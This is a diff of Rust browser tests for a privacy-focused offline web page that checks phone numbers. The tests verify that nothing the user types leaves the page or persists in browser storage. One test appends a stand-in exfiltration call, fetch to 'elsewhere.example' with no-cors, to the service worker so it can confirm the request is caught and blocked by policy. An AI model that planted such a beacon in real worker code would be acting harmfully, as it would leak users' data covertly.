@@ -2,37 +2,43 @@
 
 use std::io::Read;
 use std::net::TcpListener;
-use std::time::Duration;
+use std::time::{Duration, Instant};
 
 use anyhow::{Context, Result, ensure};
 use serde_json::{Value, json};
 
+use xtask::web::Site;
+
+use crate::driver::{LIMIT, Trap};
 use crate::golden;
 use crate::page::Page;
 
 /// What is typed, and looked for afterwards.
 const TYPED: &str = "13912345678";
+/// How long what must not come is waited for.
+const PATIENCE: Duration = Duration::from_millis(500);
 
 #[test]
 fn it_asks_for_its_own_files_and_nothing_else() -> Result<()> {
-    let page = Page::open()?;
     let site = xtask::web::site()?;
-    page.browser
-        .wait("document.getElementById('offline').innerText !== ''")?;
+    let trap = Trap::set()?;
+    // As most hosts serve it: the page says its policy itself, and the worker has none.
+    let page = Page::of(site.clone().without_header(), &[&trap.argument()])?;
+    page.wait_until_offline()?;
     page.choose_good(&golden("phone.lsv"))?;
-    let before = page.server.as_ref().context("no server")?.requests();
+    let before = page.server()?.requests();
     ensure!(page.ask(TYPED)?.verdict == "not_exposed");
     ensure!(page.ask("13800138000")?.verdict == "exposed");
     page.keep()?;
     page.browser.click("#language")?;
     // Neither a question nor a file asks for anything.
-    let requests = page.server.as_ref().context("no server")?.requests();
+    let requests = page.server()?.requests();
     ensure!(requests == before, "{requests:?}");
     page.reload()?;
     page.browser
         .wait("document.body.dataset.state === 'open'")?;
 
-    let requests = page.server.as_ref().context("no server")?.requests();
+    let requests = page.server()?.requests();
     println!("{} requests to the server: {requests:?}", requests.len());
     let mut fetched: Vec<&str> = Vec::new();
     for request in &requests {
@@ -44,6 +50,7 @@ fn it_asks_for_its_own_files_and_nothing_else() -> Result<()> {
         fetched.push(name);
     }
     for name in site.names() {
+        let name = if name == "index.html" { "" } else { name };
         ensure!(
             fetched.contains(&name),
             "{name} was not kept for offline use"
@@ -58,6 +65,69 @@ fn it_asks_for_its_own_files_and_nothing_else() -> Result<()> {
             name.is_some_and(|name| name.is_empty() || site.names().any(|known| known == name));
         ensure!(is_own, "{address}");
     }
+    // Of the worker too, and of whatever else.
+    let caught = trap.caught();
+    ensure!(caught.is_empty(), "{caught:?}");
+    Ok(())
+}
+
+/// The trap of the test above catches what a worker sends, and the policy as a header keeps
+/// a worker from it.
+#[test]
+fn a_worker_that_sends_is_noticed() -> Result<()> {
+    let mut files = xtask::web::sources()?;
+    files
+        .get_mut("sw.js")
+        .context("no worker")?
+        .extend_from_slice(b"fetch('http://elsewhere.example/?x', { mode: 'no-cors' });");
+    let site = Site::of(files)?;
+    for (site, is_bound) in [(site.clone().without_header(), false), (site, true)] {
+        let trap = Trap::set()?;
+        let page = Page::of(site, &[&trap.argument()])?;
+        page.wait_until_offline()?;
+        let start = Instant::now();
+        let limit = if is_bound { PATIENCE } else { LIMIT };
+        while trap.caught().is_empty() && start.elapsed() < limit {
+            std::thread::sleep(Duration::from_millis(10));
+        }
+        let caught = trap.caught();
+        ensure!(caught.is_empty() == is_bound, "{caught:?}");
+    }
+    Ok(())
+}
+
+/// Once the worker is there, its own host is not reached either.
+#[test]
+fn nothing_that_is_asked_for_reaches_the_host() -> Result<()> {
+    let page = Page::of(xtask::web::site()?.without_header(), &[])?;
+    page.wait_until_offline()?;
+    page.reload()?;
+    let before = page.server()?.requests().len();
+    let failed = page.browser.run_async(
+        "let failed = 0;
+         for (const ask of [
+           () => fetch('nothing?13912345678'),
+           () => fetch('./', { method: 'POST', body: '13912345678' }),
+           () => fetch('./nothing/13912345678', { cache: 'reload' }),
+         ]) {
+           await ask().catch(() => { failed += 1; });
+         }
+         // What the page has is given, whatever stands behind its name.
+         const answer = await fetch('app.js?13912345678', { cache: 'reload' });
+         return answer.ok ? failed : 0;",
+        &Value::Null,
+    )?;
+    ensure!(failed == json!(3), "{failed}");
+    page.browser
+        .goto(&format!("{}?13912345678", page.address))?;
+    page.wait_until_started()?;
+    let requests = page.server()?.requests();
+    // The browser's own look for a next version.
+    let others: Vec<_> = requests[before..]
+        .iter()
+        .filter(|request| *request != "GET /sw.js")
+        .collect();
+    ensure!(others.is_empty(), "{others:?}");
     Ok(())
 }
 
@@ -75,9 +145,35 @@ fn what_is_typed_is_nowhere() -> Result<()> {
         ensure!(is_masked == json!(kind == "password"), "{kind}");
     }
     // The verdict does not repeat it, and it is in no place that lasts.
-    let places = page.browser.run(
-        "return JSON.stringify({ ...localStorage, ...sessionStorage, cookie: document.cookie,
-           address: location.href, state: history.state, body: document.body.innerText });",
+    page.keep()?;
+    page.wait_until_offline()?;
+    let places = page.browser.run_async(
+        "const places = { ...localStorage, ...sessionStorage, cookie: document.cookie,
+           address: location.href, state: history.state, body: document.body.innerText };
+         let numFiles = 0;
+         const read = async (path, folder) => {
+           for await (const handle of folder.values()) {
+             const name = `${path}/${handle.name}`;
+             if (handle.kind === 'directory') {
+               await read(name, handle);
+             } else {
+               places[name] = await (await handle.getFile()).text();
+               numFiles += 1;
+             }
+           }
+         };
+         await read('files', await navigator.storage.getDirectory());
+         for (const cache of await caches.keys()) {
+           const opened = await caches.open(cache);
+           for (const request of await opened.keys()) {
+             places[`${cache} ${request.url}`] = await (await opened.match(request)).text();
+             numFiles += 1;
+           }
+         }
+         if (numFiles < 10) throw `only ${numFiles} files`;
+         if ((await indexedDB.databases()).length > 0) throw 'there is a database';
+         return JSON.stringify(places);",
+        &Value::Null,
     )?;
     let places = places.as_str().context("no text")?;
     ensure!(
@@ -89,16 +185,13 @@ fn what_is_typed_is_nowhere() -> Result<()> {
     ensure!(console.is_empty(), "{console:?}");
     let fields = page.browser.run(
         "return Array.from(document.querySelectorAll('form, input:not([type=radio], [type=file]), textarea'),
-           (field) => [field.autocomplete, field.spellcheck || field.tagName === 'FORM']);",
+           (field) => [field.autocomplete, field.tagName !== 'FORM' && field.spellcheck]);",
     )?;
-    for field in fields.as_array().context("no fields")? {
-        ensure!(field[0] == json!("off"), "{fields}");
+    let fields = fields.as_array().context("no fields")?;
+    ensure!(fields.len() >= 4, "{fields:?}");
+    for field in fields {
+        ensure!(*field == json!(["off", false]), "{fields:?}");
     }
-    ensure!(
-        page.browser
-            .run("return document.getElementById('identifier').spellcheck;")?
-            == json!(false)
-    );
 
     // Gone with another kind, another file, and a reload.
     page.ask_all(&[("password", TYPED)])?;
@@ -118,7 +211,8 @@ fn what_is_typed_is_nowhere() -> Result<()> {
 
 #[test]
 fn the_policy_refuses_what_would_send() -> Result<()> {
-    let page = Page::open()?;
+    // The page's own: no header helps it.
+    let page = Page::of(xtask::web::site()?.without_header(), &[])?;
     let elsewhere = TcpListener::bind("127.0.0.1:0")?;
     elsewhere.set_nonblocking(true)?;
     let there = elsewhere.local_addr()?;
